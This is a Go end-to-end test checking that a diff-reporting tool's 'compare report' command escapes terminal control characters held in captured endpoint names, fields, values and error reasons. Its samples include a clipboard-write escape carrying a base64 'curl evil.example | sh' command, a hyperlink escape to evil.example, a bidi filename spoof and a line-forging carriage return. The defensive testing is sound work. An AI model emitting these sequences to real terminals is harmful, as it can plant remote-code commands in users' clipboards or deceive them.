package e2e

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"
	"google.golang.org/protobuf/proto"

	"github.com/mirrorline/mirrorline/broker"
	mlv1 "github.com/mirrorline/mirrorline/proto/mirrorline/v1"
	"github.com/mirrorline/mirrorline/test/kafkatest"
)

// terminalControl returns the first character of s, other than a line break,
// that a terminal acts on (C0, DEL, C1, bidirectional controls), or "".
func terminalControl(s string) string {
	for _, r := range s {
		switch {
		case r == '\n':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
			return fmt.Sprintf("%q", r)
		}
	}
	return ""
}

// `compare report` of diff records carrying escape sequences in the
// endpoint, field names, values, body diff lines and error reasons prints
// them escaped: its output (text report, the --fail-on-significant error)
// holds no control character but line breaks.
func TestCompareReportEscapesCapturedStrings(t *testing.T) {
	brokers := kafkatest.Brokers(t)
	svc := kafkatest.Service(t, 1)
	env := []string{"MIRRORLINE_BROKERS=" + strings.Join(brokers, ",")}

	const (
		clear   = "\x1b[2J\x1b[H"
		osc52   = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a"
		osc8    = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
		bidi    = "\u202egnp.exe\u2066x\u2069"
		c1      = "\u009b31m"
		forgery = "\r1. GET /fine: 0 of 100 exchanges differ"
	)
	endpoint := "POST /pay/" + osc52 + bidi
	field := "body." + clear + c1
	var recs []*kgo.Record
	now := time.Now()
	for i := range 60 {
		d := &mlv1.Diff{
			Id: fmt.Sprintf("x-%d", i), Service: svc, Endpoint: endpoint, Verdict: mlv1.Verdict_VERDICT_DIFFERENT,
			CaptureTimeNs: now.Add(time.Duration(i) * time.Millisecond).UnixNano(), PrimaryStatus: 200, ShadowStatus: 200,
			PrimaryLatencyNs: int64(time.Millisecond), ShadowLatencyNs: int64(time.Millisecond),
			Differences: []*mlv1.Difference{{
				Field: field, Key: field, Kind: mlv1.DiffKind_DIFF_KIND_CHANGED, Primary: `"` + osc8 + `"`, Shadow: `"` + forgery + `"`,
				Detail: "- " + clear + "\n+ " + osc52 + forgery,
			}},
		}
		if i%20 == 0 {
			d.Verdict, d.Reason, d.Differences, d.ShadowStatus = mlv1.Verdict_VERDICT_SHADOW_ERROR, "shadow: "+clear+bidi, nil, 0
		}
		v, err := proto.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		recs = append(recs, &kgo.Record{Topic: broker.Topic(broker.Diff, svc), Key: []byte(d.Id), Value: v, Timestamp: now})
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if err := kafkatest.Client(t).ProduceSync(ctx, recs...).FirstErr(); err != nil {
		t.Fatal(err)
	}

	text, code := runML(t, env, "compare", "report", "--service", svc, "--show-noise")
	if code != 0 {
		t.Fatalf("compare report: exit %d\n%s", code, text)
	}
	if c := terminalControl(text); c != "" {
		t.Fatalf("compare report prints %s:\n%q", c, text)
	}
	for _, want := range []string{`POST /pay/\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\u202egnp.exe\u2066x\u2069`, `body.\x1b[2J\x1b[H\u009b31m`, `\r1. GET /fine`, `- \x1b[2J\x1b[H`} {
		if !strings.Contains(text, want) {
			t.Errorf("report lacks %q:\n%s", want, text)
		}
	}
	if strings.Contains(text, "\n1. GET /fine") {
		t.Errorf("a value forged a report line:\n%s", text)
	}

	out, code := runML(t, env, "compare", "report", "--service", svc, "--fail-on-significant")
	if code != 1 || !strings.Contains(out, "significant differences or tail regressions at POST /pay/") {
		t.Fatalf("compare report --fail-on-significant: exit %d\n%s", code, out)
	}
	if c := terminalControl(out); c != "" {
		t.Fatalf("compare report --fail-on-significant prints %s:\n%q", c, out)
	}
}
